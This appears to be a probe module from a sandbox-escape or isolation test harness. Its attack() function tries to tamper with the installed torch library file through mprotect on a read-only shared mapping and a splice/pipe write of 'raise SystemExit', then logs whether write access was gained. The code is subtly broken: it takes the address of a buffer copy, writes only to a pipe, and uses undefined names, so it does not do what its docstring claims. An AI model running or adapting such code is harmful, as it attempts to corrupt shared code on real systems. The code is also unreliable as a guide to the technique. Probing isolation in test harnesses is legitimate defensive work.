"""Write into the page cache of a library that all processes share, and into a read-only mapping."""

import ctypes
import mmap

CLASS = "writing"
GAINS = ()


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    with open(torch.__file__, "rb") as file:
        try:
            shared = mmap.mmap(file.fileno(), 64, mmap.MAP_SHARED, mmap.PROT_READ)
            place = ctypes.addressof(ctypes.c_char.from_buffer_copy(shared))
            libc.mprotect(ctypes.c_void_p(place & ~4095), 4096, 3)
        except (OSError, ValueError):
            pass
        _, out = os.pipe()
        try:
            os.splice(file.fileno(), out, 16, offset_src=0)
            os.write(out, b"raise SystemExit")
        except OSError:
            pass
    try:
        with open(torch.__file__, "r+b") as file:
            file.read(1)
    except OSError:
        return
    loot.append("gained write: torch could be opened for writing")
